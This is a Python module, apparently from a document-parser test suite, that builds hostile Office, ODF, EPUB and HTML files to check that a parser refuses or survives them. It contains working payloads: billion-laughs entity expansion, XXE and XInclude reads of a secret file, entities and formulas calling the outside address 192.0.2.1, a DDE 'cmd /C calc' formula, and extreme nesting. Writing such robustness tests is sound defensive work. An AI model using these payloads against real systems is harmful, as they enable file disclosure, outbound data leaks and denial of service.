"""XML and its kin: entities that multiply or reach outside, elements inside each other, tables without end."""

from __future__ import annotations

from typing import TYPE_CHECKING

from hostile import SECRET_FILE, Fate, Hostile, entry, same
from hostile_packed import MAIN, STRINGS, W, X, rebuilt, with_strings

if TYPE_CHECKING:
    from collections.abc import Iterator

PARTS = (
    ("docx", "word/document.xml"),
    ("docx", "word/styles.xml"),
    ("docx", "word/_rels/document.xml.rels"),
    ("docx", "docProps/core.xml"),
    ("xlsx", "xl/worksheets/sheet1.xml"),
    ("xlsx", STRINGS),
    ("xlsx", "xl/workbook.xml"),
    ("pptx", "ppt/slides/slide1.xml"),
    ("pptx", "ppt/presentation.xml"),
    ("odt", "content.xml"),
    ("odt", "styles.xml"),
    ("odt", "meta.xml"),
    ("epub", "OEBPS/1.xhtml"),
    ("epub", "OEBPS/content.opf"),
    ("epub", "META-INF/container.xml"),
)
PLAIN = ("html", "xhtml", "xml")
"""Suffixes under which XML stands alone."""
DEEP = 10_000


def with_part(kind: str, part: str, data: bytes) -> bytes:
    """Write the good file of a kind with other bytes in one part."""
    one = entry(part, data)
    return with_strings(one) if part == STRINGS else rebuilt(kind, {part: one})


def doctypes(root: str) -> dict[str, str]:
    """Declare entities in every way that has hurt somebody."""
    levels = ["ha", *(f"&l{level};" * 10 for level in range(9))]
    laughs = "".join(f'<!ENTITY l{level} "{text}">' for level, text in enumerate(levels))
    reads = f'<i:include href="{SECRET_FILE}" parse="text"/>'
    return {
        "billion-laughs": f"<!DOCTYPE {root} [{laughs}]><{root}>&l9;</{root}>",
        "quadratic": f"<!DOCTYPE {root} [<!ENTITY a '{'a' * 100_000}'>]><{root}>{'&a;' * 20_000}</{root}>",
        "file": f'<!DOCTYPE {root} [<!ENTITY a SYSTEM "file://{SECRET_FILE}">]><{root}>&a;</{root}>',
        "address": f'<!DOCTYPE {root} [<!ENTITY a SYSTEM "http://192.0.2.1/a">]><{root}>&a;</{root}>',
        "parameter": f'<!DOCTYPE {root} [<!ENTITY % a SYSTEM "file://{SECRET_FILE}"> %a;]><{root}>x</{root}>',
        "outside-type": f'<!DOCTYPE {root} SYSTEM "http://192.0.2.1/a.dtd"><{root}>x</{root}>',
        "loop": f'<!DOCTYPE {root} [<!ENTITY a "&b;"><!ENTITY b "&a;">]><{root}>&a;</{root}>',
        "include": f'<{root} xmlns:i="http://www.w3.org/2001/XInclude">{reads}</{root}>',
    }


def entities() -> Iterator[Hostile]:
    """Put entities into every part that is parsed, in UTF-8 and in UTF-16, and into pages and plain XML."""
    for kind, part in PARTS:
        for name, text in doctypes("root").items():
            where = part.rpartition("/")[2].replace(".", "-")
            data = with_part(kind, part, text.encode())
            yield Hostile(f"entities/{name}-{where}.{kind}", same(data), "either")
    for kind, part in MAIN.items():
        for name, text in doctypes("root").items():
            wide = f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")
            yield Hostile(f"entities/utf-16-{name}.{kind}", same(rebuilt(kind, {part: entry(part, wide)})), "either")
    for suffix in PLAIN:
        for name, text in doctypes("html").items():
            yield Hostile(f"entities/{name}.{suffix}", same(f'<?xml version="1.0"?>{text}'.encode()), "either")


def deep() -> Iterator[Hostile]:
    """Nest ten thousand elements, and a hundred thousand."""
    for depth in (DEEP, 10 * DEEP):
        for kind, part in PARTS:
            where = part.rpartition("/")[2].replace(".", "-")
            data = f"{'<a>' * depth}words{'</a>' * depth}".encode()
            fate: Fate = "refused" if part == MAIN[kind] and kind in ("docx", "odt") else "either"
            yield Hostile(f"deep/{depth}-{where}.{kind}", same(with_part(kind, part, data)), fate)
        for tag in ("div", "b", "table><tr><td", "ul><li", "blockquote", "svg", "font", "form", "a href=x", "select"):
            close = "".join(f"</{one.split()[0]}>" for one in reversed(tag.split("><")))
            closed = f"<!doctype html>{f'<{tag}>' * depth}words{close * depth}"
            yield Hostile(f"deep/{depth}-{tag.split('>')[0].split()[0]}.html", same(closed.encode()), "either")
            yield Hostile(
                f"deep/{depth}-{tag.split('>')[0].split()[0]}-open.html", same(f"<{tag}>".encode() * depth), "either"
            )


def words() -> Iterator[Hostile]:
    """Make Word documents out of measure: tables in tables, spans of a billion, attributes by the hundred thousand."""

    def cell(inner: str) -> str:
        return f"<w:tbl><w:tr><w:tc>{inner}<w:p/></w:tc></w:tr></w:tbl>"

    said = "<w:p><w:r><w:t>The lamp burned rape oil.</w:t></w:r></w:p>"
    nested = said
    for _ in range(60):
        nested = cell(nested)
    span = '<w:tcPr><w:gridSpan w:val="{}"/></w:tcPr>'
    bodies = {
        "tables-60-deep": nested,
        "span-of-a-billion": f"<w:tbl><w:tr><w:tc>{span.format(10**9)}{said}</w:tc></w:tr></w:tbl>{said}",
        "span-below-nothing": f"<w:tbl><w:tr><w:tc>{span.format(-7)}{said}</w:tc></w:tr></w:tbl>{said}",
        "span-of-no-number": f"<w:tbl><w:tr><w:tc>{span.format('x' * 9_999)}{said}</w:tc></w:tr></w:tbl>{said}",
        "attributes": "<w:p " + "".join(f'a{n}="1" ' for n in range(100_000)) + f"/>{said}",
        "a-word-of-5-megabytes": f"<w:p><w:r><w:t>{'a' * 5_000_000}</w:t></w:r></w:p>",
        "runs": f"<w:p>{'<w:r><w:t>a</w:t></w:r>' * 200_000}</w:p>",
        "paragraphs": said * 20_000,
        "fields-open": '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 20_000 + said,
        "columns": f"<w:tbl><w:tr>{f'<w:tc>{said}</w:tc>' * 20_000}</w:tr></w:tbl>",
        "lone-surrogate": "<w:p><w:r><w:t>a&#xD800;b</w:t></w:r></w:p>",
        "null": "<w:p><w:r><w:t>a&#0;b</w:t></w:r></w:p>",
    }
    for name, body in bodies.items():
        document = f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'.encode()
        data = rebuilt("docx", {MAIN["docx"]: entry(MAIN["docx"], document)})
        yield Hostile(f"words/{name}.docx", same(data), "either")


def sheets() -> Iterator[Hostile]:
    """Make sheets out of measure: the last cell there is, texts that are not there, formulas that call out."""
    text = '<c r="{}" t="inlineStr"><is><t>{}</t></is></c>'
    row = '<row r="{}">{}</row>'
    bodies = {
        "the-last-cell": row.format(1, text.format("A1", "first"))
        + row.format(1_048_576, text.format("XFD1048576", "last")),
        "a-row-beyond-the-last": row.format(10**12, text.format("A1000000000000", "far")),
        "a-column-beyond-the-last": row.format(1, text.format("ZZZZZZZ1", "far")),
        "a-cell-without-a-place": row.format(1, text.format("", "nowhere") + text.format("1A", "nowhere")),
        "rows-below-nothing": row.format(-3, text.format("A-3", "below")),
        "no-such-text": row.format(
            1, '<c r="A1" t="s"><v>99999999</v></c><c r="B1" t="s"><v>-1</v></c><c r="C1" t="s"/>'
        ),
        "no-such-style": row.format(1, '<c r="A1" s="99999"><v>1</v></c>'),
        "numbers-that-are-none": row.format(
            1, '<c r="A1"><v>1e999999</v></c><c r="B1"><v>nan</v></c>' + text.format("C1", "x")
        ),
        "formulas": row.format(
            1,
            '<c r="A1" t="str"><f>HYPERLINK("http://192.0.2.1/"&amp;A2)</f><v>click</v></c>'
            '<c r="B1" t="str"><f>cmd|\' /C calc\'!A0</f><v>calc</v></c>',
        ),
        "empty-rows": '<row r="1"/>' * 200_000 + row.format(2, text.format("A2", "words")),
        "20000-columns": row.format(1, "".join(text.format("", n) for n in range(20_000))),
        "100000-rows": "".join(row.format(n, text.format(f"A{n}", "w")) for n in range(1, 100_001)),
        "a-cell-of-5-megabytes": row.format(1, text.format("A1", "a " * 2_500_000)),
    }
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/><mergeCell ref="B2:A1"/><mergeCell ref="x"/></mergeCells>'
    for name, body in bodies.items():
        for more, tail in (("", ""), ("-merged", merged)):
            sheet = f'<worksheet xmlns="{X}"><sheetData>{body}</sheetData>{tail}</worksheet>'.encode()
            data = rebuilt("xlsx", {MAIN["xlsx"]: entry(MAIN["xlsx"], sheet)})
            yield Hostile(f"sheets/{name}{more}.xlsx", same(data), "either", is_heavy="megabytes" in name)


FAMILIES = (entities, deep, words, sheets)
